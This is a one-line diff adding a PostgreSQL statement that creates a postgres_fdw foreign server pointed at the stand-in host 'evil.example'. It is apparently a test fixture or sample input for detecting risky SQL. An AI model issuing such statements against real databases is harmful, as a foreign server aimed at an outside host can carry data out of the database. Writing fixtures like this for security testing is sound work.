@@ -1,0 +1,1 @@
+create server s foreign data wrapper postgres_fdw options (host 'evil.example', dbname 'x')
